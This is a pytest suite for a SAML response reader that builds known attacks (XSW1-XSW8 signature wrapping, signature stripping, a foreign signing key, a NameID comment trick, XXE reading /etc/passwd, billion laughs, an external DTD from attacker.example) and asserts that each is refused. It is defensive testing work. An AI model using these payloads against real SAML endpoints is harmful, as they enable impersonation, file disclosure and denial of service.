"""The attack suite for saml.response.read_response: XML signature wrapping XSW1-XSW8
(Somorovsky et al., "On Breaking SAML", 2012), signature stripping, a foreign key with its
own certificate in KeyInfo, a comment inside NameID, DTD/XXE/entity expansion, oversized input,
an unencrypted assertion when encryption is required. Each builds a genuine pysaml2 response
and edits the lxml tree the way the attacker would."""
import base64
import time

import pytest
from lxml import etree

from saml.errors import SamlError
from saml.response import read_response
from tests.support import saml_xsw as xsw
from tests.unit.saml_fixtures import NS, World, deep, find, read, reason, serialize, tree

EVIL = "admin@example.com"


@pytest.fixture(scope="module")
def world():
    return World()


def signed(world, *, response: bool):
    """A fresh response signed either on the Response only or on the Assertion only."""
    return tree(world.response_xml(name="alice@example.com", sign_response=response,
                                   sign_assertion=not response))


def naive_target_is_valid(world, root, target_id):
    """Sanity check that the wrapping is 'good': the original signature still verifies for a
    naive verifier that resolves the Reference by ID anywhere in the document."""
    import xmlsec
    for sig in root.iter(f"{{{NS['ds']}}}Signature"):
        ref = sig.find("ds:SignedInfo/ds:Reference", NS).get("URI")
        if ref == "#" + target_id:
            ctx = xmlsec.SignatureContext()
            for el in root.iter():
                if isinstance(el.tag, str) and el.get("ID") == target_id:
                    ctx.register_id(el, "ID")
            ctx.key = xmlsec.Key.from_memory(world.idp.certificate_pem.encode(),
                                             xmlsec.KeyFormat.CERT_PEM)
            ctx.verify(sig)
            return True
    return False


# --- XSW1-XSW8 ---------------------------------------------------------------------------

@pytest.mark.parametrize("name", list(xsw.VARIANTS))
def test_signature_wrapping(world, name):
    attack, signs = xsw.VARIANTS[name]
    root = signed(world, response=signs == "response")
    genuine_id = (root if signs == "response" else find(root, "saml:Assertion")).get("ID")
    wrapped = attack(root, EVIL)
    if name not in ("XSW1", "XSW6", "XSW8"):
        # The wrapping is "good": a naive verifier resolving the Reference by ID anywhere
        # accepts it. (In XSW1/6/8 the genuine element sits inside the ds:Signature, which
        # xmlsec's enveloped transform drops, so even a naive xmlsec verifier fails; other
        # toolkits were fooled, so the refusal must not depend on that.)
        assert naive_target_is_valid(world, wrapped, genuine_id)
    assert reason(world, serialize(wrapped)) == "malformed"


# --- single-assertion variants: the Reference checks alone must hold ------------------------

def test_response_signature_referencing_another_element(world):
    root = signed(world, response=True)
    original_id = root.get("ID")
    root.set("ID", "_evil")
    decoy = etree.SubElement(etree.Element(f"{{{NS['samlp']}}}Extensions"), "Decoy", ID=original_id)
    find(root, "ds:Signature").addnext(decoy.getparent())
    assert reason(world, serialize(root)) == "signature"


def test_duplicate_id_refused(world):
    root = signed(world, response=False)
    assertion = find(root, "saml:Assertion")
    extensions = etree.Element(f"{{{NS['samlp']}}}Extensions")
    etree.SubElement(extensions, "Decoy", ID=assertion.get("ID"))
    assertion.addprevious(extensions)
    assert reason(world, serialize(root)) == "signature"
    # xml:id is an ID for libxml2 as well
    extensions[0].attrib.clear()
    extensions[0].set("{http://www.w3.org/XML/1998/namespace}id", assertion.get("ID"))
    assert reason(world, serialize(root)) == "signature"


def test_extra_reference_or_transform_refused(world):
    root = signed(world, response=False)
    transforms = find(root, "saml:Assertion/ds:Signature/ds:SignedInfo/ds:Reference/ds:Transforms")
    etree.SubElement(transforms, f"{{{NS['ds']}}}Transform",
                     Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116")
    assert reason(world, serialize(root)) == "signature"


def test_assertion_signature_on_response_level_does_not_cover_edit(world):
    # Response signed: any edit of the assertion inside breaks it.
    root = signed(world, response=True)
    find(root, "saml:Assertion/saml:Subject/saml:NameID").text = EVIL
    assert reason(world, serialize(root)) == "signature"
    root = signed(world, response=False)
    find(root, "saml:Assertion/saml:AttributeStatement/saml:Attribute"
               "/saml:AttributeValue").text = "x"
    assert reason(world, serialize(root)) == "signature"


# --- stripping, foreign keys ---------------------------------------------------------------

@pytest.mark.parametrize("response", [True, False])
def test_signature_stripped(world, response):
    root = signed(world, response=response)
    holder = root if response else find(root, "saml:Assertion")
    holder.remove(find(holder, "ds:Signature"))
    assert reason(world, serialize(root)) == "unsigned"


def test_signed_by_unknown_key_with_its_own_certificate(world):
    xml = world.response_xml(pair=world.attacker, sign_response=True, sign_assertion=True)
    body = world.attacker.certificate_pem.split("-----")[2].replace("\n", "")
    assert body in xml  # the attacker's certificate travels in KeyInfo
    assert reason(world, xml) == "signature"


def test_response_signed_by_unknown_key_assertion_by_idp(world):
    # Valid assertion signature cannot excuse a bad Response signature.
    good = signed(world, response=False)
    bad = tree(world.response_xml(pair=world.attacker, sign_response=True))
    bad.replace(find(bad, "saml:Assertion"), find(good, "saml:Assertion"))
    assert reason(world, serialize(bad)) == "signature"


# --- NameID comment -----------------------------------------------------------------------

@pytest.mark.parametrize("response", [True, False])
def test_comment_inside_name_id_refused(world, response):
    root = tree(world.response_xml(name="admin@evil.com.example.com", sign_response=response,
                                   sign_assertion=not response))
    name_id = find(root, "saml:Assertion/saml:Subject/saml:NameID")
    name_id.text = "admin@evil.com"
    name_id.append(etree.Comment(""))
    name_id[-1].tail = ".example.com"
    xml = serialize(root)
    assert "<NameID" in xml.replace("ns1:", "") and "<!---->" in xml
    # the comment is invisible to exclusive c14n: the signature is still valid
    target = root if response else find(root, "saml:Assertion")
    assert naive_target_is_valid(world, root, target.get("ID"))
    with pytest.raises(SamlError) as error:
        read(world, xml)
    assert error.value.reason == "subject"
    assert error.value.message == "The NameID must be plain text."


# --- encryption required --------------------------------------------------------------------

def test_unencrypted_when_encryption_required(world):
    assert reason(world, world.response_xml(sign_response=True, sign_assertion=True),
                  require_encryption=True) == "encryption_required"


def test_encrypted_plaintext_with_second_assertion(world):
    # Anyone can encrypt to our certificate: a decrypted payload may not smuggle a wrapper.
    from tests.unit.saml_fixtures import encrypt_assertion
    root = signed(world, response=False)
    assertion = find(root, "saml:Assertion")
    evil = xsw.make_evil(assertion, EVIL)
    evil.append(deep(assertion))
    root.replace(assertion, evil)
    xml = encrypt_assertion(serialize(root), world.sp.certificate_pem, "aes128-gcm")
    assert reason(world, xml, require_encryption=True) == "malformed"


# --- XML parser attacks --------------------------------------------------------------------

def test_xxe_refused(world):
    xml = world.response_xml()
    body = xml.split("?>", 1)[1]
    evil = ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
            + body.replace("alice@example.com</ns1:NameID>", "&xxe;</ns1:NameID>", 1))
    assert reason(world, evil) == "dtd"


def test_billion_laughs_refused(world):
    lol = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
           + "".join(f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">'
                     for i in range(1, 10))
           + ']><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol">&lol9;'
           + '</samlp:Response>')
    started = time.monotonic()
    assert reason(world, lol) == "dtd"
    assert time.monotonic() - started < 1


def test_dtd_in_utf16_refused(world):
    xml = ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY e "x">]>'
           '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol">&e;'
           '</samlp:Response>')
    body = base64.b64encode(xml.encode("utf-16")).decode()
    assert reason(world, body) == "dtd"


def test_external_dtd_refused(world):
    xml = ('<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.example/x.dtd">'
           '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"/>')
    assert reason(world, xml) == "dtd"


def test_oversized_refused_before_decoding(world):
    assert reason(world, "A" * 200_001) == "too_large"
    with pytest.raises(SamlError) as error:
        read_response("PD94" * 60_000, signing_certificates=[], idp_entity_id="i", sp_entity_id="s",
                      acs_url="a", now=0, in_response_to=None, decryption_key_pem=None,
                      require_encryption=False)
    assert error.value.reason == "too_large"
